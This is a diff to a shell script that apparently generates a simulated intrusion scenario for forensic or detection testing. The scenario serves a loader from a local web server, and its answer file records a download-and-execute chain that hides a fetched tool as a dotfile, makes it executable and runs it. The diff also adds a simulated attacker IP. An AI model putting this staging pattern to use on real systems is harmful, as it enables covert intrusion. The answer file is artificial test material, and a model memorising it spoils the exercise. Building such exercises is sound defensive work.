@@ -7,10 +7,11 @@
 . "$(dirname "$0")/lib.sh"
 work=$(realpath -m "$1"); nonce=$2
 mkdir -p "$work"/{srv,dl,www,backup}
-trap 'kill $http_pid 2>/dev/null || true' EXIT
+attacker_host 5
+trap 'cleanup $http_pid' EXIT
+background_noise "$work"
 
 start_http "$work/srv"
-url="http://127.0.0.1:$http_port"
 cat > "$work/srv/loader.sh" <<STAGE
 #!/bin/sh
 cd $work/dl
@@ -47,8 +48,8 @@ cat > "$work/facts.json" <<JSON
   "scenario": "cleanup",
   "damaged": $(json_str "$work/www/index.html"),
   "detect_at": $detect_at,
-  "entry": "socket:127.0.0.1:$http_port",
-  "chain": $(json_list "loader.sh $url" "sh $work/dl/loader.sh" "tool.sh $url" "./.cache-$nonce"),
+  "entry": "socket:$atk_ip:$http_port",
+  "chain": $(json_list "loader.sh $url" "sh $work/dl/loader.sh" "tool.sh $url" "mv tool.sh .cache-$nonce" "chmod 700 .cache-$nonce" "./.cache-$nonce"),
   "decoys": $(json_list "job.tmp" "job.done" "$work/backup/index.html" "index.cached"),
   "modified": $(json_list "$work/dl/loader.sh" "$work/dl/.cache-$nonce" "$work/www/index.html")
 }
